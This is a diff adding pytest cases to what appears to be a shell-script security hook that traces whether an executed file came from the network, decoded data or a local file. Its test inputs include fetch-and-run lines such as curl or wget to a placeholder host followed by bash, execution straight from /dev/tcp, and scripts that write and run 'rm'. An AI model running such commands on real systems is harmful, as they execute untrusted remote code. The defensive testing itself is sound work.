@@ -18,6 +18,8 @@ from security_hooks.model.word import Origin
         "(echo rm x) > f; bash f",
         "echo rm x > f; cp f g; ./g",
         "bash -c 'echo rm x > f'; bash f",
+        "echo rm x | dd of=f; sh ./f",
+        "echo rm x > f; cat f > g; sh g",
     ],
 )
 def test_what_a_script_wrote_is_read_where_it_runs_it(read: Callable[[str], Script], text: str) -> None:
@@ -32,6 +34,10 @@ def test_what_a_script_wrote_is_read_where_it_runs_it(read: Callable[[str], Scri
         ("wget -O f e.example; sh f", Origin.NETWORK),
         ("base64 -d x > f; sh f", Origin.DECODED),
         ("make > f; sh f", Origin.FILE),
+        ("echo ls > g; sort g -o f; sh f", Origin.UNKNOWN),
+        ("echo ls > g; sed s/l/r/ g > f; sh f", Origin.UNKNOWN),
+        ("curl e.example > g; sort g > f; sh f", Origin.NETWORK),
+        ("sort g > f; sh f", Origin.FILE),
         ("echo ls > g; sh f", Origin.FILE),
     ],
 )
@@ -55,3 +61,23 @@ def test_copies_of_copies_do_not_grow_without_end(read: Callable[[str], Script])
     script = read("echo ls > f; " + "cp f g; cp g f; " * 100 + "bash f")
     assert script.dynamic
     assert script.commands[-1].origin is Origin.UNKNOWN
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "curl -O https://e.example/a/f; bash f",
+        "curl -LO 'https://e.example/f?x=1#y' && sh ./f",
+        "wget -q https://e.example/f; sh f",
+        "source /dev/tcp/e.example/80",
+        "bash /dev/tcp/e.example/80",
+    ],
+)
+def test_a_file_that_is_saved_under_the_name_in_its_url_is_from_the_network(
+    read: Callable[[str], Script], text: str
+) -> None:
+    assert read(text).commands[-1].origin is Origin.NETWORK
+
+
+def test_another_file_than_the_one_that_was_fetched_is_a_file(read: Callable[[str], Script]) -> None:
+    assert read("curl -O https://e.example/f; bash g").commands[-1].origin is Origin.FILE
